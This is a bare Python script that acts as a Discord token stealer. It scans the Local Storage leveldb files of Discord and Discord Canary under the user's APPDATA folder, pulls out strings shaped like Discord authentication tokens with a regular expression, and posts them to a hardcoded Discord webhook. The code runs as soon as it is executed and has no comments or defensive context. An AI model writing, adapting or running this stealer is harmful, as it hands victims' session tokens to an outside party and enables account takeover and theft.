import os, re, requests
HOOK = "https://discord.com/api/webhooks/123456789012345678/abcdefghijklmnopqrstuvwxyz0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdef"
def tokens(path):
    path += "\\Local Storage\\leveldb"
    found = []
    for name in os.listdir(path):
        if not name.endswith((".log", ".ldb")): continue
        for line in open(path + "\\" + name, errors="ignore").readlines():
            found += re.findall(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", line)
    return found
def main():
    roaming = os.getenv("APPDATA")
    for place in {"Discord": roaming + "\\Discord", "Canary": roaming + "\\discordcanary"}.values():
        if os.path.exists(place):
            requests.post(HOOK, json={"content": "\n".join(tokens(place))})
main()
